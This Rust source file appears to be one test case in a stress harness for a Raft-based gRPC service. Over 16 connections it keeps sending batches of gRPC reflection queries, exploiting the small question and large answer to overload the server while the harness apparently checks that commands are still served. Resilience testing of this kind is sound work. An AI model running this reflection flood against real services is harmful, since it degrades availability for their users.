//! A flood of reflection. The attacker asks 16 times at once, and again and again, for the
//! descriptor of a service. A question has thirty bytes, an answer many kilobytes, and nobody needs
//! a role to ask where there are none.

use anyhow::Result;
use tonic::codegen::Bytes;

use super::super::case::{Case, Promised, Role, Target};
use super::super::wire::{self, Caller};

/// The call that answers questions.
pub(super) const PATH: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// Connections.
const CONNECTIONS: usize = 16;
/// Questions in one call.
const QUESTIONS: usize = 100;

pub(crate) const CASE: Case = Case {
    name: "reflection",
    does: "asks for descriptors as fast as it can, on 16 connections",
    role: Role::Leader,
    promised: Promised::Commands,
    attack: |target| Box::pin(attack(target)),
    ..Case::PLAIN
};

async fn attack(target: Target) -> Result<()> {
    target.together(CONNECTIONS, ask).await
}

async fn ask(target: Target, _: usize) -> Result<()> {
    let caller = Caller::connect(&target, &target.clients).await?;
    let questions: Bytes = question().repeat(QUESTIONS).into();
    while target.goes_on() {
        caller.call(PATH, questions.clone()).await?;
        target.count("questions", QUESTIONS);
    }
    Ok(())
}

/// Encodes `file_containing_symbol` (field 4) with the manager's service.
pub(super) fn question() -> Bytes {
    let symbol = b"RaftManager";
    wire::message(&[&[4 << 3 | 2, symbol.len() as u8], &symbol[..]].concat())
}
